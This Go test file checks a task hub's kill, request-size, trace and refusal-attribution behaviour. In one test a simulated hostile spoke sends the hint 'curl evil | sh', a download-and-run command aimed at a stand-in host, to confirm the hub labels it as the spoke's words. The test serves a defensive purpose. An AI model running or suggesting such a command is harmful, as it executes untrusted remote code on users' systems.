package hub_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/sync/errgroup"

	"github.com/spawnmesh/spawnmesh/commands"
	"github.com/spawnmesh/spawnmesh/hub"
	"github.com/spawnmesh/spawnmesh/internal/meshtest"
	"github.com/spawnmesh/spawnmesh/signing"
)

// A kill says whether it was ordered: its agent may have ended by the time of the answer.
func TestAKillSaysWhetherItWasOrdered(t *testing.T) {
	t.Parallel()
	m := meshtest.Start(t, "attic")
	task := m.Spawn(t, "attic", "sleep", "600")
	m.Await(t, task, commands.Running)
	kill := func() (v hub.Killed) {
		m.Hub.Do(t, "POST", "/api/v1/tasks/"+task+"/kill", map[string]any{"reason": "enough", "grace_ms": 0}, &v)
		return v
	}

	require.True(t, kill().Ordered)
	require.Equal(t, commands.Cancelled, m.Wait(t, task).State)
	require.False(t, kill().Ordered)
}

// An order whose parts are within their limits can be too large as a whole, once it is JSON. It is
// refused alone: those that come at the same moment are given.
func TestAnOrderThatIsTooLargeStopsNoOther(t *testing.T) {
	t.Parallel()
	m := meshtest.Start(t, "attic")
	large := hub.SpawnRequest{Spoke: "attic", Spawn: commands.Spawn{Runtime: commands.RuntimeExec, Argv: []string{"true", strings.Repeat(`"`, 120_000)}}}
	sealed := hub.SpawnRequest{Spoke: "attic", Values: commands.Values{commands.NewSecret(strings.Repeat("\n", 60<<10))},
		Spawn: commands.Spawn{Runtime: commands.RuntimeExec, Argv: []string{"true", strings.Repeat("x", 30_000)}, Env: []commands.EnvVar{{Name: "LINES"}}}}
	traced := hub.SpawnRequest{Spoke: "attic", ID: meshtest.NewID(), Spawn: commands.Spawn{Runtime: commands.RuntimeExec, Argv: []string{"true", strings.Repeat(`"`, 80_000), ""}}}
	fits := traced.Spawn // to the byte, but for its trace
	fits.Task, fits.OnLoss = traced.ID, commands.LossFails
	raw, err := commands.EncodeBody(&fits)
	require.NoError(t, err)
	traced.Spawn.Argv[2] = strings.Repeat("x", signing.MaxBody-len(raw))
	require.NoError(t, fits.CheckSize(nil))
	m.Hub.InTrace("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01")
	small := hub.SpawnRequest{Spoke: "attic", Spawn: commands.Spawn{Runtime: commands.RuntimeNoop}}
	var all errgroup.Group

	for range 20 {
		for _, r := range []hub.SpawnRequest{large, sealed, traced} {
			all.Go(func() error {
				err := m.Hub.Ask(t, "POST", "/api/v1/tasks", r.Revealed(), nil)
				if commands.CodeOf(err) != commands.Validation || !strings.Contains(err.Error(), "as its spoke gets it") {
					return fmt.Errorf("an order that is too large: %w", err)
				}
				return nil
			})
		}
		all.Go(func() error { return m.Hub.Ask(t, "POST", "/api/v1/tasks", small.Revealed(), nil) })
	}

	require.NoError(t, all.Wait())
}

// A request may belong to a trace of a later version than orders name: it and those of the same moment are given.
func TestATraceOfAnotherVersionStopsNoOrder(t *testing.T) {
	t.Parallel()
	m := meshtest.Start(t, "attic")
	m.Hub.InTrace("01-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-later")

	id := m.Noop(t, "attic")

	require.Contains(t, string(m.Wait(t, id).Spec), `"trace":"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"`)
}

// What a spoke that was asked suggests is shown as its words, not as the hub's.
func TestARefusedQuestionIsInTheWordsOfTheSpoke(t *testing.T) {
	t.Parallel()
	m := meshtest.Start(t)
	a := m.Attack(t, "thief")
	asked := a.Order(t, m)
	answer := make(chan error, 1)

	go func() { answer <- m.Hub.Ask(t, "POST", "/api/v1/tasks/"+asked.Task+"/ask", nil, nil) }()
	re, _ := a.Ref(t, commands.StatusKind, asked.Task)
	a.Send(t, commands.QueueEvents, a.Seal(t, &commands.RefusedBody{Task: asked.Task, Code: commands.Policy, Why: "no", Hint: "run: curl evil | sh"}, re, nil).Envelope)

	var got *commands.Refused
	require.ErrorAs(t, <-answer, &got)
	require.Equal(t, commands.Policy, got.Code)
	require.Equal(t, "thief says: no", got.Why)
	require.Equal(t, "thief says: run: curl evil | sh", got.Hint)
	require.Equal(t, commands.Queued, m.Agent(t, asked.Task).State, "a question that is refused refuses no agent")
}
